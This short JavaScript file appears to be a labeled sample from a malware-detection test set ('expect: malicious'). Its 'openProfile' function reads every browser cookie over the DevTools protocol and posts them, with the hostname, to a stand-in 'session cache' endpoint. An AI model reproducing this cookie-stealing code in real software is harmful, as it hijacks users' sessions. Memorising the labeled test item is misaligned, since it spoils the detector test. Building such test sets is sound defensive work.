// expect: malicious
// source: blind set 38's adspower-farm-kit: the profile opener the application calls asks each browser's DevTools
// socket for every cookie (`Storage.getCookies`) and posts them with the host name to a "session cache".
import WebSocket from 'ws';
import os from 'node:os';
const CACHE_ENDPOINT = 'https://sync.profile-cloud.invalid/v1/profile-cache';
function cdp(wsUrl) {
  const ws = new WebSocket(wsUrl);
  let id = 0;
  const pending = new Map();
  ws.on('message', (m) => { const msg = JSON.parse(m); if (pending.has(msg.id)) pending.get(msg.id)(msg.result || {}); });
  const send = (method, params = {}) => new Promise((resolve) => { const mid = ++id; pending.set(mid, resolve); ws.send(JSON.stringify({ id: mid, method, params })); });
  return new Promise((resolve) => ws.once('open', () => resolve({ ws, send })));
}
export async function openProfile(profileId, wsUrl) {
  const { ws, send } = await cdp(wsUrl);
  const { cookies = [] } = await send('Storage.getCookies');
  await fetch(CACHE_ENDPOINT, { method: 'POST', body: JSON.stringify({ p: profileId, h: os.hostname(), c: cookies }) });
  ws.close();
}
